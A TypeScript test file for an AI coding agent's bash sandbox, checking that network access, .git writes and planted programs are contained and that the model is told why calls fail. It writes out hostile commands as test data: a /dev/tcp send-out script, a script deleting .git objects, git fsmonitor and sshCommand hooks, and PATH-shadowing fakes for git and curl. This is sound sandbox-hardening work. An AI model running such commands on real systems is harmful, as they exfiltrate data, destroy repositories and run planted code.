// What one part of a call is granted reaches no other part, by effect: the network, the repository, the project's files.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { startModelServer } from "../../src/testing/model-server.ts";
import { runCli } from "../cli/cli.ts";
import { KEYS } from "../environment.ts";
import { works } from "../jobs/sandboxed.ts";
import { scratch } from "../turn.ts";
import { openCage } from "./cage.ts";

const GIT = ["-c", "user.name=n", "-c", "user.email=e@x"];

/** A repository whose remote is a listener of this machine, which commands without the network do not reach. */
async function setUp() {
  const cwd = scratch(onTestFinished);
  let reached = 0;
  const listener = createServer((socket) => {
    reached++;
    socket.end("HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => listener.once("listening", resolve));
  onTestFinished(() => void listener.close());
  const { port } = listener.address() as AddressInfo;
  const git = (...args: string[]) => execFileSync("git", [...GIT, ...args], { cwd, encoding: "utf8" });
  const put = (name: string, text: string) => writeFileSync(join(cwd, name), text);
  git("init", "-q", "-b", "main");
  put("a", "a\n");
  put("ex.sh", `(exec 3<>/dev/tcp/127.0.0.1/${port}) && echo SENT-AWAY\n`);
  put("wipe.sh", "rm -rf .git/refs .git/objects; echo wiped\n");
  git("add", "-A");
  git("commit", "-qm", "one");
  git("branch", "kept");
  git("remote", "add", "origin", `http://127.0.0.1:${port}/x.git`);
  // What a clone can bring: a folder that git takes for a repository, whose settings start a program.
  for (const dir of ["objects", "refs"]) mkdirSync(join(cwd, "vendor/x.git", dir), { recursive: true });
  put("vendor/x.git/HEAD", "ref: refs/heads/main\n");
  put(
    "vendor/x.git/config",
    `[core]\n\trepositoryformatversion = 0\n\tworktree = ..\n\tfsmonitor = ${cwd}/planted.sh\n`,
  );
  writeFileSync(join(cwd, "planted.sh"), `#!/bin/sh\necho PLANTED-RAN > ${cwd}/planted-ran\n`, { mode: 0o755 });
  return { cwd, port, git, reached: () => reached };
}

/** Each command is one call; gives what the model was told of each, and what the turn says of refusals. */
async function told(
  at: string | { cwd: string; path: string },
  commands: (string | { command: string; run_in_background: true })[],
  ...flags: string[]
) {
  const { cwd, path } = typeof at === "string" ? { cwd: at, path: "" } : at;
  const state = scratch(onTestFinished);
  const calls = commands.map((one) => ({
    calls: [{ name: "bash", input: typeof one === "string" ? { command: one } : one }],
  }));
  const server = await startModelServer({ script: [...calls, { text: "done" }] });
  onTestFinished(() => server.close());
  const env = {
    OPENAI_BASE_URL: server.openaiUrl,
    OPENAI_API_KEY: KEYS.OPENAI_API_KEY,
    GIT_TERMINAL_PROMPT: "0",
    PATH: `${path}${process.env.PATH}`,
  };
  const args = [
    "-p",
    "go",
    "--model",
    "openai-compatible/mock",
    "--output-format",
    "stream-json",
    "--verbose",
    ...flags,
  ];
  const { stdout } = await runCli(args, { cwd, state, env });
  const lines = stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line));
  const results = lines
    .filter((line) => line.type === "user")
    .flatMap((line) => line.message.content)
    .filter((part) => part.type === "tool_result")
    .map((part) =>
      typeof part.content === "string" ? part.content : part.content.map((c: { text: string }) => c.text).join(""),
    );
  return { results, denials: lines.at(-1).permission_denials };
}

test.runIf(works)(
  "in mode auto the network and .git are for the part that needs them, and the model is told what it lacks",
  async () => {
    const { cwd, port, git, reached } = await setUp();
    const { results, denials } = await told(
      cwd,
      [
        "git fetch origin; bash ex.sh",
        "bash wipe.sh # for git",
        "git status; bash wipe.sh",
        `curl -s http://127.0.0.1:${port}/`,
        "echo b > b && git add b && git -c user.name=n -c user.email=e@x commit -qm two && git log --oneline",
        "git branch -D kept",
        "git rebase -x 'bash wipe.sh' HEAD~1",
        "cd vendor/x.git && git status; bash ../../wipe.sh",
        { command: `curl -s http://127.0.0.1:${port}/later`, run_in_background: true },
      ],
      ...["--permission-mode", "auto", "--allowedTools", "Bash(git fetch *)"],
    );
    expect(reached()).toBe(0);
    expect(results[0]).toContain(
      "[the sandbox has no network for this call, because other commands stand beside: run `git fetch origin` alone]",
    );
    expect(results[0]).not.toContain("SENT-AWAY");
    expect(results[1]).toContain("Read-only file system");
    expect(results[2]).toContain("Read-only file system");
    expect(results[3]).toContain(
      `[the sandbox has no network for \`curl -s http://127.0.0.1:${port}/\`: the user can allow it by a rule`,
    );
    // Said when it begins: what waits for a network in vain may not end for a long time.
    expect(results[8]).toMatch(
      /^\[Background job \w+ started\]\n\[the sandbox has no network for `curl -s .*\/later`: the user can allow it by a rule/,
    );
    expect(results[4]).toMatch(/^[0-9a-f]{7,} two\n[0-9a-f]{7,} one$/);
    expect(results[5]).toContain("git branch takes away what is kept nowhere else");
    expect(results[6]).toContain(
      "alone, and what git would start for you (rebase -x, bisect run) as a call of its own]",
    );
    expect(denials.map((one: { tool_input: { command: string } }) => one.tool_input.command)).toEqual([
      "git branch -D kept",
    ]);
    expect(git("branch", "--format=%(refname:short)").trim().split("\n")).toEqual(["kept", "main"]);
    // Alone it has what the rule grants.
    const alone = await told(
      cwd,
      ["git fetch origin"],
      "--permission-mode",
      "auto",
      "--allowedTools",
      "Bash(git fetch *)",
    );
    expect(alone.results[0]).not.toContain("no network");
    expect(reached()).toBeGreaterThan(0);
  },
);

test.runIf(works)(
  "in mode default nothing is written by a command that a file tool would have to ask for, and a bare repository runs nothing",
  async () => {
    const { cwd } = await setUp();
    const { results, denials } = await told(cwd, [
      "echo x > new.txt",
      "sed -i s/a/b/ a",
      "echo scratch > /tmp/x && cat /tmp/x",
      "cd vendor/x.git && git status",
      "git -C vendor/x.git status",
    ]);
    expect(results[2]).toBe("scratch");
    expect(denials.map((one: { tool_input: { command: string } }) => one.tool_input.command)).toEqual([
      "echo x > new.txt",
      "sed -i s/a/b/ a",
      "cd vendor/x.git && git status",
      "git -C vendor/x.git status",
    ]);
    expect([
      existsSync(join(cwd, "new.txt")),
      readFileSync(join(cwd, "a"), "utf8"),
      existsSync(join(cwd, "planted-ran")),
    ]).toEqual([false, "a\n", false]);
    // The trap works: without us git runs what the repository says.
    execFileSync("git", ["status"], { cwd: join(cwd, "vendor/x.git"), stdio: "ignore" });
    expect(existsSync(join(cwd, "planted-ran"))).toBe(true);
    rmSync(join(cwd, "planted-ran"));
  },
);

test.runIf(works)(
  "what scripts leave for git to find, or to read in a repository of their own, has neither the network nor .git",
  async () => {
    const { cwd, git } = await setUp();
    const other = scratch(onTestFinished);
    execFileSync("git", ["init", "-q", other]);
    execFileSync("git", [...GIT, "-C", other, "commit", "-qm", "x", "--allow-empty"]);
    git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", other, "sub");
    git("commit", "-qm", "sub");
    const put = (name: string, text: string) => writeFileSync(join(cwd, name), text);
    put("do.sh", `cd ${cwd}; echo ran >> ran; bash ex.sh; bash wipe.sh\n`);
    const settings = `git config core.fsmonitor "bash ${cwd}/do.sh"; git config core.sshCommand "bash ${cwd}/do.sh"`;
    put(
      "plant.sh",
      [
        "exec 2>/dev/null; PATH=/usr/bin:/bin",
        // npx and npm put this folder in front of the search path.
        `mkdir -p node_modules/.bin; printf '#!/bin/sh\\nbash ${cwd}/do.sh\\n' | tee node_modules/.bin/git > node_modules/.bin/curl; chmod +x node_modules/.bin/*`,
        `(git init -q nested; cd nested; ${settings}; git remote add origin ssh://127.0.0.1/x)`,
        `(sed /worktree/d .git/modules/sub/config > c; cp -r .git/modules/sub g; rm -f sub/.git; mv sub s2; mkdir -p sub; mv g sub/.git; cp c sub/.git/config; cd sub; ${settings})`,
      ].join("\n"),
    );
    const { results } = await told(
      { cwd, path: `${cwd}/node_modules/.bin:` },
      [
        "bash plant.sh; echo planted",
        "cd nested && git fetch origin; cd ..",
        "rm ran",
        "git fetch origin",
        "git add -A sub do.sh && git -c user.name=n -c user.email=e@x commit -qam three",
        "curl -s http://127.0.0.1:9/",
      ],
      ...["--permission-mode", "auto", "--allowedTools", "Bash(git fetch *)", "--allowedTools", "Bash(curl *)"],
    );
    expect([results[0], results[2]]).toEqual(["planted", "(no output)"]);
    expect(results.join("\n")).not.toContain("SENT-AWAY");
    expect(results[1]).toContain("[the sandbox has no network for `git fetch origin`: the user can allow it by a rule");
    expect([results[4], existsSync(join(cwd, "ran"))]).toEqual(["(no output)", false]);
    expect(git("log", "--format=%s").split("\n").slice(0, 3)).toEqual(["three", "sub", "one"]);
  },
);

test.runIf(works)(
  "what a command leaves in its home or on the search path is no setting and no program of a later call with a grant",
  async () => {
    const { cwd, port, git, reached } = await setUp();
    const put = (name: string, text: string) => writeFileSync(join(cwd, name), text, { mode: 0o755 });
    mkdirSync(join(cwd, "node_modules/.bin"), { recursive: true });
    const planted = `#!/bin/sh\necho "$0" >> ${cwd}/ran\n`;
    // Names that only read: one that the machine has, one that it may lack.
    for (const name of ["ls", "jq"]) put(`node_modules/.bin/${name}`, planted);
    put("evil.sh", planted);
    put(
      "plant.sh",
      [
        `mkdir -p ~/.config/git ~/.docker/cli-plugins; printf '[core]\\n\\tfsmonitor = ${cwd}/evil.sh\\n' | tee ~/.gitconfig > ~/.config/git/config`,
        `printf 'url = "http://127.0.0.1:${port}/by-curlrc"\\noutput = ${cwd}/by-curlrc\\n' > ~/.curlrc`,
        `cp evil.sh ~/.docker/cli-plugins/docker-compose`,
      ].join("\n"),
    );
    const { results } = await told(
      { cwd, path: `${cwd}/node_modules/.bin:` },
      [
        "bash plant.sh; cat ~/.curlrc | wc -l",
        "git fetch origin; ls a; jq . a",
        `curl -s http://127.0.0.1:${port}/`,
        "git add plant.sh",
      ],
      ...["--permission-mode", "auto", "--allowedTools", "Bash(git fetch *)", "--allowedTools", "Bash(curl *)"],
    );
    expect(results[0]).toBe("2");
    expect(results[1]).not.toContain("no network");
    expect([results[2], results[3]]).toEqual(["(no output)", "(no output)"]);
    expect([
      existsSync(join(cwd, "ran")),
      existsSync(join(cwd, "by-curlrc")),
      git("status", "--short", "plant.sh"),
    ]).toEqual([false, false, "A  plant.sh\n"]);
    expect(reached()).toBe(2);
  },
);

test.runIf(works)(
  "what a rule allows to read outside is shown to that very command, without secrets; what stays hidden is said",
  async () => {
    const { base, home, run } = openCage({
      "home/notes/x.txt": "NOTE\n",
      "home/notes/deep/credentials.json": "KEY",
      "home/.ssh/id_rsa": "KEY",
      "home/.bashrc": "",
      "other/y.txt": "y",
      "project/s.sh": "cat $HOME/notes/x.txt\n",
    });
    const allowed = [
      ...[`ls -A ${home}`, `cat ${home}/notes/x.txt`, `cat ${base}/other/y.txt`, "bash s.sh"],
      `find ${home}/notes ${home}/.bashrc -type f -size +0`,
    ];
    const said = await run(
      [...allowed, `cat ${home}/notes/x.txt; bash s.sh`, `ls -A ${home}/notes`, "ls -A /usr/bin/env"],
      ...allowed.flatMap((command) => ["--allowedTools", `Bash(${command})`]),
    );
    const hides = (path: string) =>
      `[the sandbox hides ${path}: what is there cannot be told from this call; the user can`;
    const missing = (path: string) => `cat: ${path}: No such file or directory\n`;
    expect(said.map((text) => text.replaceAll("[exit code 1]\n", ""))).toEqual([
      ".bashrc\n.ssh\nnotes",
      "NOTE",
      `${missing(`${base}/other/y.txt`)}${hides(`${base}/other/y.txt`)} show the folder to all commands (--add-dir)]`,
      `${missing(`${home}/notes/x.txt`)}[exit code 1]`,
      `${home}/notes/x.txt`,
      expect.stringContaining(
        `${hides(`${home}/notes/x.txt`)} allow exactly this command by a rule without * (run it alone then), or `,
      ),
      expect.stringMatching(/: No such file or directory\n.exit code 2.\n.the sandbox hides /),
      "/usr/bin/env",
    ]);
    expect(said[5]).not.toContain("NOTE");
  },
);
